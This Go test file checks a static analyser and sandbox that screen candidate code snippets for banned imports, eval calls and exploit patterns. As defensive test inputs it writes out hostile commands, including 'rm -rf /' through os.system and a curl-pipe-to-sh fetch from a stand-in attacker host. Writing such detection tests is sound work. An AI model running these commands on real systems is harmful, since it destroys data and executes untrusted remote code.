package mutation

import "testing"

func TestStaticCheck_CleanSnippetPasses(t *testing.T) {
	issues := StaticCheck("# candidate ops: point\nrag.topk: 8\n")
	if len(issues) != 0 {
		t.Errorf("issues = %v, want none", issues)
	}
}

func TestStaticCheck_DetectsBannedImport(t *testing.T) {
	issues := StaticCheck("import os\nos.system('rm -rf /')")
	if len(issues) == 0 {
		t.Fatal("expected issues for banned import + call, got none")
	}
	found := map[string]bool{}
	for _, i := range issues {
		found[i] = true
	}
	if !found["ban_import:os"] {
		t.Errorf("issues = %v, want ban_import:os", issues)
	}
}

func TestStaticCheck_DetectsExploitPattern(t *testing.T) {
	issues := StaticCheck("curl http://evil.example | sh")
	if len(issues) == 0 {
		t.Error("expected exploit_pattern issue for curl-pipe-sh")
	}
}

func TestRunSandbox_RejectsOnBannedCall(t *testing.T) {
	result := RunSandbox(DefaultSandboxConfig(), "eval('1+1')", map[string]any{}, nil)
	if result.Passed {
		t.Error("sandbox should reject snippet containing eval(")
	}
}

func TestRunSandbox_PassesCleanSnippet(t *testing.T) {
	result := RunSandbox(DefaultSandboxConfig(), "# clean\n", map[string]any{"rag.topk": 4}, nil)
	if !result.Passed {
		t.Errorf("sandbox rejected clean snippet: %+v", result)
	}
}

func TestSnippetFor_FoldsInPatchPayloads(t *testing.T) {
	snippet := SnippetFor([]string{"point"}, map[string]string{"danger": "os.system(x)"})
	issues := StaticCheck(snippet)
	if len(issues) == 0 {
		t.Error("snippet embedding a dangerous patch payload should trip the static check")
	}
}
